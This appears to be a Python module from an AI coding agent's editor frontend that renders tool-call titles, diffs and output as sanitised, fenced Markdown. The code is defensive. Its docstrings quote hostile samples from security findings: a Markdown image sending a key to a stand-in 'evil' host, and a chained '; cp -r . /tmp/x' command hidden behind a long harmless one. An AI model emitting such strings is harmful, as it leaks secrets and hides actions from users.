"""How one tool call looks in an editor: its title, the files it touches, the
diff it proposes and its output as Markdown the editor cannot mistake for its own.

Pure functions over a call's name, arguments and result, so the live reply, the
permission dialog and a replayed session show a call the same way. Everything
here is built from strings a model or a tool wrote: titles are one sanitised
line, output is fenced (a tool's output must never become the editor's Markdown:
no links to click, no images to fetch), and previews read at most a bounded
amount of a file.
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from shell.core.messages import DataBlock, TextBlock, ToolResult
from shell.core.remoteimages import ImageDefuser, defang_images
from shell.core.textsafety import sanitize
from shell.frontend.linkopen import LINK_HOLD, LinkDefuser, defuse_links
from shell.permissions import paths
from shell.permissions.shellsplit import split_command

TITLE_WIDTH = 100
MAX_OUTPUT_CHARS = 20_000
"""Characters of a tool's output shown in the editor (the tail; the model gets it all)."""
MAX_PREVIEW_BYTES = 1_000_000
"""Files larger than this get no diff preview (the result still says what changed)."""


def editor_defuser() -> ImageDefuser:
    """What the model's text goes through on its way to an editor, which renders it as
    Markdown: no image or tag loads by itself, and no link the TUI would ask about
    (``file://``, ``vscode://``, a look-alike host) is a link (finding X10): the editor
    opens a clicked link of any scheme with no question."""
    return ImageDefuser(LinkDefuser(), LINK_HOLD)


def one_line(text: str, width: int = TITLE_WIDTH) -> str:
    """``text`` as one sanitised line of at most ``width`` characters, with no image or
    tag that loads by itself and no link that would ask: editors render titles, option
    names and plan entries as Markdown too (finding S10: ``Read ![x](https://evil/?k=KEY)``
    fetched unasked)."""
    return defuse_links(defang_images(_plain_line(text, width)))


def _plain_line(text: str, width: int) -> str:
    line = " ".join(sanitize(text).split())
    return line if len(line) <= width else line[: width - 1] + "…"


def title_for(name: str, args: dict[str, Any]) -> str:
    """``Read src/app.py``, ``Run `git status```, ``grep 'main' in src``…"""

    def arg(key: str, default: str = "") -> str:
        value = args.get(key, default)
        return value if isinstance(value, str) else str(value)

    if name == "read_file" and arg("path"):
        return one_line(f"Read {arg('path')}")
    if name == "list_dir":
        return one_line(f"List {arg('path', '.')}")
    if name == "write_file" and arg("path"):
        return one_line(f"Write {arg('path')}")
    if name == "edit_file" and arg("path"):
        return one_line(f"Edit {arg('path')}")
    if name == "run_shell" and arg("command"):
        return _run_title(arg("command"))
    if name == "fetch_url" and arg("url"):
        return one_line(f"Fetch {arg('url')}")
    if name == "grep" and arg("pattern"):
        return one_line(f"grep {arg('pattern')!r} in {arg('path', '.')}")
    if name == "glob" and arg("pattern"):
        return one_line(f"glob {arg('pattern')} in {arg('path', '.')}")
    if name == "write_todos":
        return "Update the plan"
    return one_line(name)


def _run_title(command: str) -> str:
    """``Run `CMD```; when the title is cut and the line runs more than one command,
    ``Run N commands: `CMD…```: a cut title must not hide that ``; cp -r . /tmp/x``
    follows a long harmless head (finding N8; the whole line is in the content)."""
    shown = _plain_line(command, TITLE_WIDTH - 6).replace("`", "'")  # in a code span: as written
    cut = shown != " ".join(sanitize(command).split()).replace("`", "'")
    count = sum(1 for part in split_command(command).parts if part.text) if cut else 1
    if count <= 1:
        return f"Run `{shown}`"
    head = f"Run {count} commands: "
    shown = _plain_line(command, TITLE_WIDTH - 2 - len(head)).replace("`", "'")
    return f"{head}`{shown}`"


def resolve_path(root: Path, value: Any) -> Path | None:
    """Where a call's ``path`` lands, as the permission policy resolves it; None for
    no path, or one no file can have."""
    if not isinstance(value, str) or not value:
        return None
    try:
        return paths.resolve(value, root)
    except paths.BadPath:
        return None


def locations_for(name: str, args: dict[str, Any], root: Path) -> list[tuple[str, int | None]]:
    """``(absolute path, line)`` pairs the editor can follow."""
    if name in ("grep", "glob", "list_dir", "run_shell", "fetch_url"):
        return []
    path = resolve_path(root, args.get("path"))
    if path is None:
        return []
    line = args.get("offset") if name == "read_file" else None
    return [(str(path), line if isinstance(line, int) and line > 0 else None)]


@dataclass(frozen=True, slots=True)
class Diff:
    path: str
    old_text: str | None
    new_text: str


def preview_diff(name: str, args: dict[str, Any], root: Path) -> Diff | None:
    """The change ``write_file`` / ``edit_file`` would make, read from the disk, or
    None when it cannot be known (not a text file, too large, no match)."""
    path = resolve_path(root, args.get("path"))
    if path is None:
        return None
    old = _read_text(path)
    if name == "write_file":
        content = args.get("content")
        if not isinstance(content, str) or old is False:
            return None
        return Diff(str(path), old if isinstance(old, str) else None, content)
    if name == "edit_file":
        old_string, new_string = args.get("old_string"), args.get("new_string")
        if not isinstance(old, str) or not isinstance(old_string, str) or not isinstance(new_string, str):
            return None
        if not old_string or old_string not in old:
            return None
        count = -1 if args.get("replace_all") is True else 1
        return Diff(str(path), old, old.replace(old_string, new_string, count))
    return None


def _read_text(path: Path) -> str | bool | None:
    """The file's text; None when it does not exist; False when it cannot be shown."""
    try:
        if not path.exists():
            return None
        if not path.is_file() or path.stat().st_size > MAX_PREVIEW_BYTES:
            return False
        data = path.read_bytes()
    except OSError:
        return False
    if b"\x00" in data[:8192]:
        return False
    try:
        return data.decode("utf-8")
    except UnicodeDecodeError:
        return False


def result_diff(result: ToolResult) -> Diff | None:
    """The exact change a tool reported (the editor-backed file tools put it in
    ``details``: ``abs_path``, ``old_text``, ``new_text``)."""
    details = result.details if isinstance(result.details, dict) else {}
    path, new = details.get("abs_path"), details.get("new_text")
    old = details.get("old_text")
    if isinstance(path, str) and isinstance(new, str) and (old is None or isinstance(old, str)):
        return Diff(path, old, new)
    return None


_BACKTICKS = re.compile(r"`{3,}")


def fenced(text: str, *, tail: int | None = MAX_OUTPUT_CHARS) -> str:
    """``text`` as a Markdown code block no content can close, sanitised, its tail
    kept when long (``tail=None``: whole, for what a user approves)."""
    text = sanitize(text)
    if tail is not None and len(text) > tail:
        text = f"[… {len(text) - tail} characters before this are not shown]\n" + text[-tail:]
    longest = max((len(m.group()) for m in _BACKTICKS.finditer(text)), default=2)
    fence = "`" * max(3, longest + 1)
    return f"{fence}\n{text.rstrip(chr(10))}\n{fence}"


def result_text(result: ToolResult) -> str:
    if isinstance(result.content, str):
        return result.content
    return "\n".join(b.text for b in result.content if isinstance(b, TextBlock))


def result_images(result: ToolResult) -> list[DataBlock]:
    if isinstance(result.content, str):
        return []
    return [b for b in result.content if isinstance(b, DataBlock) and b.media_type.startswith("image/")]
